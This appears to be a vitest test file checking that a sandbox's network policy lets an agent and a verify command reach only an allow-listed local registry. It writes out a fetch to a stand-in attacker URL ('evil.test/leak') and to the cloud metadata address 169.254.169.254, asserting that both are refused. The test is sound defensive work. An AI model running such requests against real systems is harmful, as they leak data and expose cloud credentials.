/** The network of a story: an agent and a check that want out, what they reach, and what the issue tells of it. */
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { once } from 'node:events'
import { expect, it, onTestFinished } from 'vitest'
import { openYard } from './support/yard.ts'

const FETCH = (url: string) =>
  `await fetch(${JSON.stringify(url)}).then(async (r) => console.log(await r.text()), () => console.log("refused"))`

it('what is allowed is reached, what is not is refused and listed', async (context) => {
  const registry = createServer((_, response) => response.end('a package'))
  registry.listen(0, '127.0.0.1')
  await once(registry, 'listening')
  onTestFinished(() => void registry.close())
  const allowed = `127.0.0.1:${(registry.address() as AddressInfo).port}`
  // The list names an address of this machine, which the jail's own loopback would hide: so it is asked for by the proxy.
  const script = `process.env.NO_PROXY = ""; const { writeFileSync } = await import("node:fs");
    ${FETCH('http://evil.test/leak')}; ${FETCH('http://169.254.169.254/latest/')}; writeFileSync("done.txt", "done\\n")`
  const check = `NO_PROXY= no_proxy= node --input-type=module -e '${FETCH(`http://${allowed}/`)}; ${FETCH('http://pypi.test/')}'`
  const yard = await openYard({
    operator: JSON.stringify({
      profiles: {
        mine: {
          protocol: 'command',
          command: [process.execPath, '--input-type=module', '-e', script],
        },
      },
      allow: [allowed],
    }),
  })
  onTestFinished(() => yard.close())
  if (yard.world.yardmaster().jailKind === 'none')
    return context.skip('bubblewrap does not work here')
  const repo = await yard.repository({ config: `verify: [${JSON.stringify(check)}]\n` })
  const number = yard.issue(repo, 'Do it.')
  yard.label(repo, number)
  await yard.becomes(repo, number, 'in-review')
  const [attempt] = await yard.attempts(repo, number)
  expect(attempt?.report?.denied).toEqual(['evil.test:80', '169.254.169.254:80'])
  expect(attempt?.report?.verify).toMatchObject([
    { exitCode: 0, output: 'a package\nrefused\n', denied: ['pypi.test:80'] },
  ])
  await yard.says(
    repo,
    number,
    'Not let through by the network policy: `evil.test:80`, `169.254.169.254:80`, `pypi.test:80`. The operator can add hosts to `allow`.',
  )
  return undefined
})
